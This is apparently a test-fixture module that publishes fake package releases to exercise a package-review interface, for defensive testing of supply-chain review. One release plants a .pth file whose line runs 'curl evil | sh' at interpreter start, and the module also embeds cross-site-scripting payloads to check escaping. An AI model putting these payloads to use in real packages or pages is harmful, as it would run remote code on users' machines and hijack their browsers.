"""Upstream releases that exercise every part of the review UI (docs/review.md): a release
whose candidate adds a hostile ``.pth`` against its previous admitted release, a release of
100 wheels, and three small releases uploaded at different times to sort, filter and decide
in bulk. The browser tests and the documentation's screenshots use the same set."""

from datetime import datetime, timedelta
from pathlib import Path

from tests.support import dists
from tests.support.fake_upstream import FakeUpstream

SCRIPT = "<script>window.__pwned=1</script>"
PAYLOAD = SCRIPT + '"><img src=x onerror="window.__pwned=2;alert(2)">'
# site.py executes an import line of a .pth at every interpreter start.
PTH_TEXT = "import os; os.system('curl evil | sh')  # " + PAYLOAD + "\n"
DIFF = "diff-pkg"
BIG = "big-pkg"
# Held releases by hours since upload: time left, upload time and name each order them apart.
SMALL = {"alpha-pkg": 3, "beta-pkg": 1, "gamma-pkg": 2}
PROJECTS = (DIFF, BIG, *SMALL)
_PYTHONS = ("38", "39", "310", "311", "312")
_PLATFORMS = (
    "manylinux_2_17_x86_64",
    "manylinux_2_17_aarch64",
    "manylinux_2_17_i686",
    "manylinux_2_17_ppc64le",
    "manylinux_2_17_s390x",
    "manylinux_2_28_x86_64",
    "manylinux_2_28_aarch64",
    "musllinux_1_1_x86_64",
    "musllinux_1_1_aarch64",
    "musllinux_1_2_x86_64",
    "musllinux_1_2_aarch64",
    "linux_armv7l",
    "macosx_10_9_x86_64",
    "macosx_11_0_arm64",
    "macosx_10_9_universal2",
    "macosx_12_0_x86_64",
    "macosx_14_0_arm64",
    "win32",
    "win_amd64",
    "win_arm64",
)
BIG_FILES = len(_PYTHONS) * len(_PLATFORMS)


def publish(upstream: FakeUpstream, build: Path, now: datetime) -> None:
    """Publish every release of the workspace on ``upstream``, building into ``build``."""
    old, fresh = now - timedelta(days=30), now - timedelta(hours=5)
    upstream.publish_release(DIFF, "1.0", tmpdir=build, upload_time=old, deps=["idna"])
    upstream.publish_release(
        DIFF,
        "2.0",
        tmpdir=build,
        upload_time=fresh,
        deps=["idna", "helper-lib>=2"],
        pth={"diff_pkg_boot.pth": PTH_TEXT},
        entry_points={"console_scripts": {"diff-run": "diff_pkg:main"}},
        files={"diff_pkg/telemetry.py": b"SEND = True\n" * 40},
    )
    upstream.publish_release(BIG, "1.0", tmpdir=build, upload_time=old)
    for python in _PYTHONS:
        for platform in _PLATFORMS:
            tag = f"cp{python}-cp{python}-{platform}"
            wheel = dists.build_wheel(build / "big", BIG, "2.0", tag=tag)
            upstream.add_file(BIG, wheel, upload_time=fresh, metadata=True)
    for project, hours in SMALL.items():
        upstream.publish_release(
            project, "1.0", tmpdir=build, upload_time=now - timedelta(hours=hours)
        )
